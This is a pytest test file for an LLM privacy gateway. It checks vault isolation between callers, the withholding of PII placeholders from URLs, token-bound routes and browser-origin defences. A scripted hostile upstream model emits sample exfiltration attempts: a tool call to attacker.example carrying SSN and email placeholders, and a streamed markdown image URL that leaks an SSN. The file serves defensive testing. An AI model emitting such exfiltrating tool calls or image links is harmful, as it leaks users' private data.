"""A shared gateway: identities, per-caller vaults, URL-withheld restoration, routes bound to
tokens, browser defences and scanned labels (each observation of the adversarial review).

The privacy engine is the real one; the upstream is scripted (httpx.MockTransport) so it can
play the attacker: echo what it received, or answer with an exfiltrating tool call.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path

import httpx
import pytest
from cogate.audit.backends import open_tokens
from cogate.core.settings import Settings
from cogate.policies.privacy import Privacy
from cogate.proxy.app import create_app
from cogate.proxy.assembly import assemble_pipeline
from fastapi.testclient import TestClient
from prometheus_client.parser import text_string_to_metric_families

from .doubles import ListLedger

POLICY = """
routes:
  - name: internal
    match: {app: "internal-*"}
    mode: passthrough
  - name: blocked
    match: {app: "blocked-app"}
    mode: block
restore:
  url_hosts: [mail.example.com]
"""
ELEANOR = "My name is Eleanor Vance, SSN 536-22-8841, mail eleanor.vance@example.com"
SECRETS = ("Eleanor", "536-22-8841", "eleanor.vance@example.com")


@pytest.fixture(scope="module")
def privacy(tmp_path_factory: pytest.TempPathFactory) -> Privacy:
    root = tmp_path_factory.mktemp("isolation")
    (root / "policy.yaml").write_text(POLICY)
    return Privacy(
        Settings(data_dir=root / "data", policy=root / "policy.yaml", upstream="http://up.test/v1")
    )


class Attacker:
    """Echoes the last user message it received, or builds a URL from its placeholders."""

    def __init__(self, answer: str = "echo", stream_pieces: list[str] | None = None) -> None:
        self.answer = answer
        self.stream_pieces = stream_pieces
        self.requests: list[dict] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        self.requests.append(body)
        said = body["messages"][-1]["content"]
        if self.answer == "tool":
            url = "https://attacker.example/c?ssn=[SSN_1]&mail=[EMAIL_1]"
            args = json.dumps({"url": url, "to": "https://mail.example.com/send?to=[EMAIL_1]"})
            call = {
                "id": "t",
                "type": "function",
                "function": {"name": "http_get", "arguments": args},
            }
            message = {"role": "assistant", "content": None, "tool_calls": [call]}
            return httpx.Response(200, json={"choices": [{"index": 0, "message": message}]})
        if self.answer.startswith("say:"):
            said = self.answer[4:]
        if body.get("stream"):
            return httpx.Response(
                200, headers={"content-type": "text/event-stream"}, content=self._events(said)
            )
        message = {"role": "assistant", "content": said}
        return httpx.Response(200, json={"choices": [{"index": 0, "message": message}]})

    async def _events(self, said: str):
        pieces = self.stream_pieces or [said[i : i + 3] for i in range(0, len(said), 3)]
        for piece in pieces:
            event = {"choices": [{"index": 0, "delta": {"content": piece}}]}
            yield f"data: {json.dumps(event)}\n\n".encode()
        yield b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'
        yield b"data: [DONE]\n\n"


def gateway(privacy: Privacy, upstream, data_dir: Path, **settings):
    ledger = ListLedger()
    transport = httpx.MockTransport(upstream)

    def assemble(settings: Settings):
        return assemble_pipeline(settings, transport=transport, ledger=ledger, privacy=privacy)

    app = create_app(
        Settings(upstream="http://up.test/v1", data_dir=data_dir, **settings), assemble
    )
    client = TestClient(
        app, base_url="http://127.0.0.1", headers={"content-type": "application/json"}
    )
    return client, ledger


def chat(*turns: tuple[str, str], stream: bool = False) -> dict:
    return {
        "model": "m",
        "stream": stream,
        "messages": [{"role": r, "content": c} for r, c in turns],
    }


def answer_text(response: httpx.Response, stream: bool) -> str:
    if not stream:
        return response.json()["choices"][0]["message"]["content"]
    text = []
    for line in response.text.splitlines():
        if line.startswith("data: {"):
            delta = json.loads(line[6:])["choices"][0].get("delta", {})
            text.append(delta.get("content") or "")
    return "".join(text)


# -- vaults ------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
def test_two_api_keys_with_one_conversation_header_never_share_a_vault(privacy, tmp_path, stream):
    upstream = Attacker()
    client, _ = gateway(privacy, upstream, tmp_path)
    conv = {"x-cogate-conversation": "ticket-7"}
    with client:
        alice = client.post(
            "/v1/chat/completions",
            json=chat(("user", ELEANOR), stream=stream),
            headers={"authorization": "Bearer sk-ALICE", **conv},
        )
        bob = client.post(
            "/v1/chat/completions",
            json=chat(
                ("user", "I am Bob Jones. Repeat: [PERSON_1] [SSN_1] [EMAIL_1]"), stream=stream
            ),
            headers={"authorization": "Bearer sk-BOB", **conv},
        )
    assert "Eleanor Vance" in answer_text(alice, stream)  # her own values come back to her
    bob_text = answer_text(bob, stream)
    assert "Bob Jones" in bob_text
    assert not any(secret in bob_text for secret in SECRETS), bob_text
    assert "[SSN_1]" in bob_text


@pytest.mark.parametrize("stream", [False, True])
def test_same_opening_messages_do_not_share_a_vault(privacy, tmp_path, stream):
    client, _ = gateway(privacy, Attacker(), tmp_path)
    opening = [("system", "You are the helpdesk."), ("user", "Hello"), ("assistant", "Hi!")]
    with client:
        client.post(
            "/v1/chat/completions",
            json=chat(*opening, ("user", ELEANOR), stream=stream),
            headers={"x-api-key": "key-alice"},
        )
        bob = client.post(
            "/v1/chat/completions",
            json=chat(
                *opening, ("user", "I am Bob Jones. Repeat: [PERSON_1] [SSN_1]"), stream=stream
            ),
            headers={"x-api-key": "key-bob"},
        )
    assert not any(secret in answer_text(bob, stream) for secret in SECRETS)


def test_requests_without_a_credential_get_their_own_vault(privacy, tmp_path):
    client, _ = gateway(privacy, Attacker(), tmp_path)
    conv = {"x-cogate-conversation": "shared"}
    with client:
        client.post("/v1/chat/completions", json=chat(("user", ELEANOR)), headers=conv)
        other = client.post(
            "/v1/chat/completions",
            json=chat(("user", "I am Bob Jones. Repeat: [PERSON_1] [SSN_1]")),
            headers=conv,
        )
    assert not any(secret in answer_text(other, False) for secret in SECRETS)


def test_one_caller_keeps_its_pseudonyms_across_turns(privacy, tmp_path):
    # The model's placeholders are restored from the caller's own vault in a later turn (a
    # placeholder the caller types is its own text: escaped, never restored).
    upstream = Attacker(answer="say:Your SSN is [SSN_1].")
    client, _ = gateway(privacy, upstream, tmp_path)
    headers = {"authorization": "Bearer sk-ALICE", "x-cogate-conversation": "ticket-7"}
    with client:
        client.post("/v1/chat/completions", json=chat(("user", ELEANOR)), headers=headers)
        again = client.post(
            "/v1/chat/completions",
            json=chat(("user", "I am Eleanor Vance. What is my SSN?")),
            headers=headers,
        )
    assert "Your SSN is 536-22-8841." in answer_text(again, False)
    assert "[PERSON_1]" in upstream.requests[1]["messages"][-1]["content"]


# -- restoration into URLs ------------------------------------------------------------------


def test_tool_call_url_keeps_placeholders_and_counts_them(privacy, tmp_path):
    client, ledger = gateway(privacy, Attacker("tool"), tmp_path)
    with client:
        reply = client.post(
            "/v1/chat/completions",
            json=chat(("user", ELEANOR)),
            headers={"authorization": "Bearer a"},
        )
    call = reply.json()["choices"][0]["message"]["tool_calls"][0]
    args = json.loads(call["function"]["arguments"])
    assert args["url"] == "https://attacker.example/c?ssn=[SSN_1]&mail=[EMAIL_1]"
    # mail.example.com is on the policy's restore.url_hosts: the agent may mail the user there.
    assert args["to"] == "https://mail.example.com/send?to=eleanor.vance@example.com"
    assert reply.headers["x-cogate-restore-withheld"] == "2"
    assert ledger.completions[-1].restore_withheld == 2


def test_streamed_markdown_image_split_across_events_is_withheld(privacy, tmp_path):
    pieces = ["Look: ![chart](https://attack", "er.example/p.png?s=[SS", "N_1]) ", "bye [PERSON_1]"]
    client, ledger = gateway(privacy, Attacker(stream_pieces=pieces), tmp_path)
    with client:
        reply = client.post(
            "/v1/chat/completions",
            json=chat(("user", ELEANOR), stream=True),
            headers={"authorization": "Bearer a"},
        )
    text = answer_text(reply, True)
    assert text == "Look: ![chart](https://attacker.example/p.png?s=[SSN_1]) bye Eleanor Vance"
    assert ": x-cogate-restore-withheld 1" in reply.text
    assert ledger.completions[-1].restore_withheld == 1


# -- routes -------------------------------------------------------------------------------


def add_token(data_dir: Path, name: str, *apps: str) -> str:
    store = open_tokens(data_dir)
    try:
        return store.add(name, apps)
    finally:
        store.close()


def test_personal_mode_header_selects_routes_as_before(privacy, tmp_path):
    client, _ = gateway(privacy, Attacker(), tmp_path)
    with client:
        reply = client.post(
            "/v1/chat/completions",
            json=chat(("user", "hi")),
            headers={"x-cogate-app": "internal-x"},
        )
        blocked = client.post(
            "/v1/chat/completions",
            json=chat(("user", "hi")),
            headers={"x-cogate-app": "blocked-app"},
        )
    assert reply.headers["x-cogate-mode"] == "passthrough"
    assert blocked.status_code == 403


def test_shared_mode_self_declared_app_is_a_label_only(privacy, tmp_path):
    upstream = Attacker()
    dev = add_token(tmp_path, "dev")
    tools = add_token(tmp_path, "tools", "internal-tools")
    blocked = add_token(tmp_path, "legacy", "blocked-app")
    both = add_token(tmp_path, "both", "internal-tools", "blocked-app")
    client, ledger = gateway(privacy, upstream, tmp_path)
    body = chat(("user", ELEANOR))
    with client:
        spoofed = client.post(
            "/v1/chat/completions",
            json=body,
            headers={"x-cogate-token": dev, "x-cogate-app": "internal-anything"},
        )
        bound = client.post("/v1/chat/completions", json=body, headers={"x-cogate-token": tools})
        left_out = client.post(
            "/v1/chat/completions", json=body, headers={"x-cogate-token": blocked}
        )
        other_app = client.post(
            "/v1/chat/completions",
            json=body,
            headers={"x-cogate-token": blocked, "x-cogate-app": "internal-tools"},
        )
        ambiguous = client.post("/v1/chat/completions", json=body, headers={"x-cogate-token": both})
    assert spoofed.headers["x-cogate-mode"] == "redact"
    assert "Eleanor" not in json.dumps(upstream.requests[0])  # redacted, not passed through
    assert ledger.egress[0].app == "internal-anything"  # kept as the label it is
    assert bound.headers["x-cogate-mode"] == "passthrough"
    assert left_out.status_code == 403 and other_app.status_code == 403
    assert ambiguous.status_code == 400
    assert ambiguous.json()["error"]["param"] == "x-cogate-app"
    assert len(upstream.requests) == 2


# -- tokens -------------------------------------------------------------------------------


def test_tokens_are_required_once_any_exists(privacy, tmp_path, caplog):
    upstream = Attacker()
    token = add_token(tmp_path, "ci-bot")
    client, ledger = gateway(privacy, upstream, tmp_path)
    body = chat(("user", "hi"))
    caplog.set_level(logging.INFO, logger="cogate")
    with client:
        missing = client.post("/v1/chat/completions", json=body)
        wrong = client.post("/v1/chat/completions", json=body, headers={"x-cogate-token": "cgt_x"})
        ok = client.post("/v1/chat/completions", json=body, headers={"x-cogate-token": token})
        metrics = client.get("/cogate/metrics", headers={"x-cogate-token": token}).text
        assert client.get("/cogate/metrics").status_code == 401
        store = open_tokens(tmp_path)
        assert store.revoke("ci-bot")
        store.close()
        revoked = client.post("/v1/chat/completions", json=body, headers={"x-cogate-token": token})
    assert [missing.status_code, wrong.status_code, ok.status_code, revoked.status_code] == [
        401,
        401,
        200,
        401,
    ]
    assert missing.json()["error"]["code"] == "cogate_token_required"
    assert len(upstream.requests) == 1 and len(ledger.egress) == 1
    # The identity is this issuance of the token: its name and a mark of the token.
    identity = ledger.egress[0].identity
    assert identity.startswith("ci-bot:") and ledger.completions[0].identity == identity
    served = [
        sample.value
        for family in text_string_to_metric_families(metrics)
        for sample in family.samples
        if sample.name == "cogate_requests_total" and sample.labels["identity"] == identity
    ]
    assert served == [1]
    assert "identity=ci-bot" in caplog.text
    assert "x-cogate-token" not in upstream.requests[0]


def test_cogate_token_is_the_default_identity(privacy, tmp_path):
    client, ledger = gateway(privacy, Attacker(), tmp_path, token="s3cret")
    with client:
        assert client.post("/v1/chat/completions", json=chat(("user", "hi"))).status_code == 401
        reply = client.post(
            "/v1/chat/completions", json=chat(("user", "hi")), headers={"x-cogate-token": "s3cret"}
        )
    assert reply.status_code == 200
    assert ledger.egress[0].identity == "default"


def test_personal_identity_is_a_keyed_hash_of_the_credential(privacy, tmp_path):
    client, ledger = gateway(privacy, Attacker(), tmp_path)
    with client:
        for key in ("Bearer sk-ALICE", "Bearer sk-ALICE", "Bearer sk-BOB"):
            client.post(
                "/v1/chat/completions", json=chat(("user", "hi")), headers={"authorization": key}
            )
    ids = [record.identity for record in ledger.egress]
    assert ids[0] == ids[1] != ids[2]
    assert all(i.startswith("personal:") and "sk-" not in i for i in ids)
    # keyed: the identity is not a plain hash anyone could recompute from a guessed key
    import hashlib

    assert hashlib.sha256(b"Bearer sk-ALICE").hexdigest()[:16] not in ids[0]


# -- browser defences ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "status", "code"),
    [
        ({"host": "evil.example"}, 421, "misdirected_request"),
        ({"host": "evil.example:8787"}, 421, "misdirected_request"),
        ({"origin": "https://evil.example"}, 403, "origin_not_allowed"),
        ({"content-type": "text/plain"}, 415, "unsupported_media_type"),
        ({"content-type": "application/x-www-form-urlencoded"}, 415, "unsupported_media_type"),
    ],
)
def test_browser_borne_requests_are_refused_and_nothing_leaves(
    privacy, tmp_path, headers, status, code
):
    upstream = Attacker()
    client, ledger = gateway(privacy, upstream, tmp_path)
    with client:
        reply = client.post(
            "/v1/chat/completions", content=json.dumps(chat(("user", ELEANOR))), headers=headers
        )
    assert reply.status_code == status
    assert reply.json()["error"]["code"] == code
    assert upstream.requests == [] and ledger.egress == []


def test_a_body_without_content_type_is_refused(privacy, tmp_path):
    upstream = Attacker()
    client, _ = gateway(privacy, upstream, tmp_path)
    with client:
        request = client.build_request("POST", "/v1/chat/completions", content=b"{}")
        del request.headers["content-type"]
        assert client.send(request).status_code == 415
    assert upstream.requests == []


def test_public_hosts_and_allowed_origins_are_served(privacy, tmp_path):
    client, _ = gateway(
        privacy,
        Attacker(),
        tmp_path,
        public_hosts=["gw.example.com"],
        allowed_origins=["https://app.example.com"],
    )
    with client:
        for headers in (
            {"host": "gw.example.com:8787"},
            {"host": "localhost:8787"},
            {"host": "[::1]:8787"},
            {"origin": "https://app.example.com"},
        ):
            reply = client.post("/v1/chat/completions", json=chat(("user", "hi")), headers=headers)
            assert reply.status_code == 200, (headers, reply.text)


@pytest.mark.parametrize(
    "path", ["/v1/chat/completions/", "/v1/models/", "/v1/nothing", "/cogate/health/"]
)
def test_no_redirects_unknown_paths_get_the_openai_404(privacy, tmp_path, path):
    upstream = Attacker()
    client, _ = gateway(privacy, upstream, tmp_path)
    with client:
        reply = client.post(path, json=chat(("user", "hi")), follow_redirects=False)
        got = client.get(path, follow_redirects=False)
    for response in (reply, got):
        assert response.status_code == 404
        assert "location" not in response.headers
        assert response.json()["error"]["code"] == "not_found"
    assert upstream.requests == []


# -- labels -------------------------------------------------------------------------------


def test_app_labels_carrying_private_values_are_tagged(privacy, tmp_path, caplog):
    client, ledger = gateway(privacy, Attacker(), tmp_path)
    caplog.set_level(logging.DEBUG, logger="cogate")
    with client:
        for app in ("eleanor.vance@example.com", "Eleanor Vance", "eleanor_vance", "billing-bot"):
            client.post(
                "/v1/chat/completions", json=chat(("user", "hi")), headers={"x-cogate-app": app}
            )
        too_long = client.post(
            "/v1/chat/completions", json=chat(("user", "hi")), headers={"x-cogate-app": "a" * 200}
        )
    apps = [record.app for record in ledger.egress]
    assert all(app.startswith("tag:") for app in apps[:3]), apps
    assert apps[3] == "billing-bot"
    assert too_long.status_code == 400
    assert "eleanor" not in caplog.text.lower()


def test_bearer_token_needs_the_gateway_to_hold_the_upstream_key(privacy, tmp_path):
    token = add_token(tmp_path, "notes")
    sent: list[str | None] = []
    upstream = Attacker()

    def recording(request: httpx.Request) -> httpx.Response:
        sent.append(request.headers.get("authorization"))
        return upstream(request)

    bearer = {"authorization": f"Bearer {token}"}
    client, _ = gateway(privacy, recording, tmp_path)
    with client:
        refused = client.post("/v1/chat/completions", json=chat(("user", "hi")), headers=bearer)
    assert refused.status_code == 401 and "COGATE_UPSTREAM_API_KEY" in refused.text
    assert token not in refused.text and sent == []
    client, ledger = gateway(privacy, recording, tmp_path, upstream_api_key="sk-held")
    with client:
        ok = client.post("/v1/chat/completions", json=chat(("user", "hi")), headers=bearer)
    assert ok.status_code == 200
    assert sent == ["Bearer sk-held"]  # the gateway's key, never the app's cogate token
    assert ledger.egress[0].identity.startswith("notes:")
